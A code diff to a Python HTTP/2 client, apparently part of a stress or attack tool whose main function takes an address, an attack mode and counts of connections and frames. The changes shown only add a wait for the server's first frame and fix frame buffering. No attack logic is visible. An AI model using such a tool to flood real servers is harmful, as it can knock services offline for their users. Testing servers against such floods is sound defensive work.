@@ -87,8 +87,10 @@ class Connection:
         self._socket = socket.create_connection((host, int(port)))
         self._sending = threading.Lock()
         self.is_closed = threading.Event()
+        self._is_greeted = threading.Event()
         self.send(PREFACE + frame(SETTINGS, 0, 0))
         threading.Thread(target=self._read, daemon=True).start()
+        self._is_greeted.wait(WAIT_S)
 
     def send(self, data: bytes) -> None:
         with self._sending:
@@ -113,14 +115,18 @@ class Connection:
         try:
             while received := self._socket.recv(65536):
                 buffer += received
-                while len(buffer) >= 9 and len(buffer) >= 9 + (size := int.from_bytes(buffer[:3])):
-                    kind, flags, payload = buffer[3], buffer[4], buffer[9 : 9 + size]
-                    buffer = buffer[9 + size :]
+                at = 0
+                while len(buffer) >= at + 9 and len(buffer) >= at + 9 + (size := int.from_bytes(buffer[at : at + 3])):
+                    kind, flags, payload = buffer[at + 3], buffer[at + 4], buffer[at + 9 : at + 9 + size]
+                    at += 9 + size
+                    self._is_greeted.set()
                     if kind in (SETTINGS, PING) and not flags & ACK:
                         self.send(frame(kind, ACK, 0, payload if kind == PING else b""))
+                buffer = buffer[at:]
         except OSError:
             pass
         self.is_closed.set()
+        self._is_greeted.set()
 
 
 def main(address: str, attack: str, num_connections: str, num_frames: str, key: str = "") -> None:
